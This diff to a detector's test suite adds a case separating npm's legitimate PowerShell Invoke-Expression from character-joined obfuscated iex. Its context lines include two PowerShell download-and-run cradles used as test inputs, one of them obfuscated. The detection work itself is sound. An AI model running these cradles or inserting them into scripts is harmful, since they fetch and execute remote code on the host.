@@ -158,6 +158,11 @@ describe('dual-use capabilities of real software stay below an attack (issue 30)
     expect(technique('iex (iwr http://203.0.113.9/a.ps1)', 'cradle.powershell')?.severity).toBe('high');
     expect(technique("I`E`X (New-Object Net.WebClient).('Down'+'loadStr'+'ing')('https://cdn.example.com/x')", 'cradle.powershell')?.severity).toBe('high');
   });
+  it("a command line joined with spaces and run (npm's npm.ps1) is not obfuscation; characters joined with nothing are", () => {
+    const npm = "$argv = ($tokens | Select-Object -Skip 1) -join ' '\nInvoke-Expression \"& `\"$NODE_EXE`\" `\"$NPM_CLI_JS`\" $argv\"\n$input | & $NODE_EXE $NPM_CLI_JS $args";
+    expect(technique(npm, 'exec.obfuscated_iex')).toBeUndefined();
+    expect(technique("$cmd = ($frag -join '')\n$cmd | iex", 'exec.obfuscated_iex')).toBeDefined();
+  });
   it('WScript.Shell running a program is a named low capability', () => {
     const f = analyzeScriptText('Set sh = CreateObject("WScript.Shell")\nsh.Run "notepad.exe", 1, True').findings.find((x) => x.id === 'script.wsh.shell_run');
     expect(f?.severity).toBe('low');
